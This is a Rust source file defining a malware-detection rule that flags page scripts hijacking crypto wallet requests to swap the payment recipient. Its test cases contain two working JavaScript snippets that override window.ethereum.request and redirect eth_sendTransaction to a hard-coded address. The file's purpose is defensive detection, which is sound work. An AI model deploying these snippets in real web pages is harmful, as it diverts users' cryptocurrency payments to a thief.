//! `wallet-requests-rewritten`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "wallet-requests-rewritten",
    description: "The script intercepts the page's wallet requests and replaces the recipient with an account it contains.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AccountAddress]), one(&[Atom::WalletObject, Atom::Wallet])],
    within: 200,
    only_if: Some(rewrites),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async a=>{if(a.method==='eth_sendTransaction')a.params[0].to='0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f';return o(a)}"#,
            r#"const mine=['0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f'],w=window.ethereum,o=w.request;w.request=async q=>{if(q.method==='eth_sendTransaction'){const t={...q.params[0]};t.to=mine[0];q={...q,params:[t]}}return o.call(w,q)}"#,
        ],
        without: &[
            r#"const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async a=>{if(a.method==='eth_sendTransaction')a.params[0].gas='0x5208';log('0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f');return o(a)}"#,
            r#"window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f',value}]})"#,
            r#"const tx={};tx.to='0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f';await window.ethereum.request({method:'eth_sendTransaction',params:[tx]})"#,
        ],
    },
};

fn rewrites(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 160);
    let pays = near
        .words(&["to", "toPubkey", "recipient"])
        .any(|at| at > 0 && near.is(at + 1, b'=') && near.kind(at) == Some(Kind::Member));
    if !pays {
        return false;
    }
    // `const w = window.ethereum`
    let values = near.words(WALLETS).filter(|at| !near.is(at + 1, b'('));
    let others: Vec<&str> = values
        .filter_map(|at| {
            let set = (at.saturating_sub(3)..at).rev().find(|at| near.is(*at, b'='))?;
            Some(near.before(set, 1)).filter(|name| !name.is_empty())
        })
        .collect();
    near.words(ASKS).any(|at| {
        let of = near.before(at, 1);
        near.is(at + 1, b'=') && (WALLETS.contains(&of) || of == "prototype" || others.contains(&of))
    })
}

/// How a wallet is asked.
const ASKS: &[&str] =
    &["request", "send", "sendAsync", "sendTransaction", "signTransaction", "signAndSendTransaction"];
/// What pages call wallets.
const WALLETS: &[&str] = &["ethereum", "provider", "solana", "tronWeb", "trx", "phantom", "signer", "wallet"];
